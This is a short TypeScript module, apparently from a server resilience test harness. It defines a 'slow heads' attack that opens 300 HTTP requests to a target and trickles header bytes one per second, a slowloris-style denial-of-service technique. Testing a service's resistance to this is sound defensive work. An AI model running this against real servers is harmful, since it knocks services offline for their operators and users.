import type { HostileAttack } from '../hostile-attack.ts'
import { trickle } from '../hostile-sockets.ts'

const REQUESTS = 300

export const slowHeads: HostileAttack = {
  name: 'slow heads',
  does: `begins ${REQUESTS} requests and sends a byte of their headers a second`,
  prepare: async (target) => () => {
    for (let n = 0; n < REQUESTS; n++) trickle(target, 'GET /api/products HTTP/1.1\r\nHost: x\r\nX', 'x')
  },
}
